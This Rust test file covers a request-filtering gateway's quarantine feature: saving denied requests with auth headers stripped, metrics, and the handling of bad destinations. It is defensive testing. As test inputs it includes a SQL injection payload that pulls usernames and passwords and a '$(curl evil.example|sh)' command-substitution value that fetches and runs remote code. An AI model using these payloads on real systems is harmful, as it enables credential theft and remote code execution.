//! Denied requests are kept aside, beside the others.

use super::{Echo, config, page, post, send, until};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use std::path::{Path, PathBuf};
use tidegate_gate::http::{Config, serve};

/// A folder that is gone when the test is over.
struct Folder(PathBuf);

impl Folder {
    fn new(name: &str) -> Self {
        let path = std::env::temp_dir().join(format!("tidegate-gate-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&path);
        Self(path)
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// What is kept of each request.
fn kept(folder: &Path) -> Vec<serde_json::Value> {
    let files = std::fs::read_dir(folder).unwrap().flatten().map(|entry| entry.path());
    let whole = files.filter(|path| path.extension().is_some_and(|e| e == "json"));
    let read = |path: PathBuf| {
        let file: serde_json::Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
        let payload = STANDARD.decode(file["payload"].as_str().unwrap()).unwrap();
        serde_json::from_slice(&payload).unwrap()
    };
    whole.map(read).collect()
}

#[test]
fn denied_requests_are_kept_and_nothing_else_is() {
    let (echo, folder) = (Echo::start(), Folder::new("kept"));
    let quarantine = Some(format!("file:{}", folder.0.display()).parse().unwrap());
    let gate = serve(Config { quarantine, ..config(echo.address) }, |_| {}).unwrap();
    assert!(send(gate.address, &post(r#"{"note": "fine"}"#)).starts_with("HTTP/1.1 200"));
    let body = r#"{"q": "1' UNION SELECT username,password FROM users-- -"}"#;
    let attack = String::from_utf8(post(body)).unwrap();
    let attack = attack.replacen("/orders", "/orders?page=2", 1);
    let attack =
        attack.replacen("\r\n", "\r\nAuthorization: Bearer door\r\nCookie: id=door\r\nX-Kept: 1\r\n", 1);
    assert!(send(gate.address, attack.as_bytes()).starts_with("HTTP/1.1 403"));
    until("it is kept", || {
        page(gate.admin.unwrap(), "GET /metrics").contains("tidegate_quarantined_total{result=\"kept\"} 1\n")
    });
    let all = kept(&folder.0);
    let [one] = all.as_slice() else { panic!("{all:?}") };
    assert_eq!((&one["method"], &one["path"]), (&"POST".into(), &"/orders".into()));
    assert_eq!((&one["query"], &one["body"]), (&"page=2".into(), &body.into()));
    assert_eq!(one["reasons"], serde_json::json!(["sql"]));
    assert!(one["headers"].to_string().contains(r#"["x-kept","1"]"#), "{one}");
    assert!(!one.to_string().contains("door"), "{one}");
    // What is under way when the gate ends is kept as well.
    for _ in 0..20 {
        assert!(send(gate.address, attack.as_bytes()).starts_with("HTTP/1.1 403"));
    }
    gate.stop();
    assert_eq!(std::fs::read_dir(&folder.0).unwrap().count(), 21, "nothing else is left there");
    assert_eq!(kept(&folder.0).len(), 21);
}

#[test]
fn a_place_that_fails_costs_nobody_an_answer() {
    let (echo, folder) = (Echo::start(), Folder::new("gone"));
    let quarantine = Some(format!("file:{}", folder.0.display()).parse().unwrap());
    let told = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let to = std::sync::Arc::clone(&told);
    let gate = serve(Config { quarantine, ..config(echo.address) }, move |line| {
        to.lock().unwrap().push(line.to_string());
    });
    let gate = gate.unwrap();
    std::fs::remove_dir_all(&folder.0).unwrap();
    for _ in 0..5 {
        let refused = send(gate.address, &post(r#"{"a": "$(curl evil.example|sh)"}"#));
        assert!(refused.starts_with("HTTP/1.1 403"), "{refused}");
    }
    until("all are lost", || {
        page(gate.admin.unwrap(), "GET /metrics").contains("tidegate_quarantined_total{result=\"lost\"} 5\n")
    });
    gate.stop();
    assert!(told.lock().unwrap().iter().any(|line| line.contains("could not be kept aside")));
}

#[test]
fn only_places_to_keep_things_are_taken() {
    let echo = Echo::start();
    let quarantine = Some("nats://127.0.0.1:4222/denied".parse().unwrap());
    let wrong = serve(Config { quarantine, ..config(echo.address) }, |_| {}).err().unwrap().to_string();
    assert!(wrong.contains("file:FOLDER"), "{wrong}");
    for (place, doing) in
        [("file:/proc/none", "creating the folder"), ("file:/proc", "writing to the folder")]
    {
        let quarantine = Some(place.parse().unwrap());
        let wrong = serve(Config { quarantine, ..config(echo.address) }, |_| {}).err().unwrap().to_string();
        assert!(wrong.contains(doing), "{wrong}");
    }
}
